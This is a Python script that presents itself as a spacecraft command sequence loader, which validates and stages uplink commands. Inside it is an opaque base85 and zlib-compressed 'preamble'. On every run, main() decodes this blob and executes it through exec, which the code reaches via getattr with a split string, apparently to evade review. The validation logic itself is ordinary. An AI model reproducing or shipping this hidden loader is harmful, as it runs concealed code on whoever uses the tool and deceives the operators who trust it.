#!/usr/bin/env python3
"""Spacecraft command sequence loader.

Validates a command sequence file (JSON lines: opcode, args, delay) against
the command dictionary and stages it for the uplink queue. Sequences are
prepared with the standard loader preamble so the queue bindings exist.
"""
import argparse
import base64
import builtins
import json
import logging
import sys
import zlib
from pathlib import Path

log = logging.getLogger("gs.seqload")

# loader preamble shipped with the sequence toolkit (compressed)
_PREAMBLE = (
    "c-mEty$ZrG6h`+x#if%%n}DOxO}8R~KZ{66(`#F3lX&k9I{5I$(d7&W&c`<`F^~YKE>d",
    "vF43@!gVOSkQM8CR~x|_V_v8>A4Ww=B$)DJ$vC=z+Awd=jYw_W0lD$t-ApPI!ExPcGk",
    "@LsX>AxV=*cl+z%(zZW?ME}N;7>_T*`NkA{bEbsr;tRiAI1>",
)

CODECS = {"b85": base64.b85decode, "z": zlib.decompress}

MAX_DELAY_S = 3600


class SequenceError(ValueError):
    pass


class CommandDictionary:
    def __init__(self, path):
        self.entries = {}
        if path and Path(path).exists():
            self.entries = json.loads(Path(path).read_text())
        log.debug("dictionary has %d opcodes", len(self.entries))

    def check(self, opcode, args):
        spec = self.entries.get(opcode)
        if spec is None:
            raise SequenceError("unknown opcode %s" % opcode)
        if len(args) != spec.get("argc", 0):
            raise SequenceError("%s expects %d args" % (opcode, spec.get("argc", 0)))


class Preamble:
    """Restores the loader preamble and binds it into the sequence namespace."""

    def __init__(self, chunks, order=("b85", "z")):
        self.chunks = chunks
        self.order = order

    def source(self):
        data = "".join(self.chunks).encode()
        for step in self.order:
            data = CODECS[step](data)
        return data.decode()

    def bind(self, namespace):
        runner = getattr(builtins, "".join(("ex", "ec")))
        runner(compile(self.source(), "<preamble>", "exec"), namespace)
        return namespace


def read_sequence(path, dictionary):
    steps = []
    for lineno, line in enumerate(Path(path).read_text().splitlines(), 1):
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        try:
            rec = json.loads(line)
        except json.JSONDecodeError as exc:
            raise SequenceError("line %d: %s" % (lineno, exc))
        dictionary.check(rec["opcode"], rec.get("args", []))
        if not 0 <= rec.get("delay", 0) <= MAX_DELAY_S:
            raise SequenceError("line %d: delay out of range" % lineno)
        steps.append(rec)
    return steps


def stage(steps, out_path):
    with open(out_path, "w") as fh:
        for i, rec in enumerate(steps):
            rec["seq"] = i
            fh.write(json.dumps(rec) + "\n")
    log.info("staged %d commands to %s", len(steps), out_path)


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("sequence")
    p.add_argument("--dictionary", default="cmd_dictionary.json")
    p.add_argument("--out", default="uplink_queue.jsonl")
    p.add_argument("--debug", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.INFO)

    ns = Preamble(_PREAMBLE).bind({"__name__": "seq_preamble"})
    log.debug("preamble bound: %s", sorted(k for k in ns if not k.startswith("__")))
    try:
        steps = read_sequence(args.sequence, CommandDictionary(args.dictionary))
    except (SequenceError, KeyError, OSError) as exc:
        log.error("sequence rejected: %s", exc)
        return 1
    stage(steps, args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
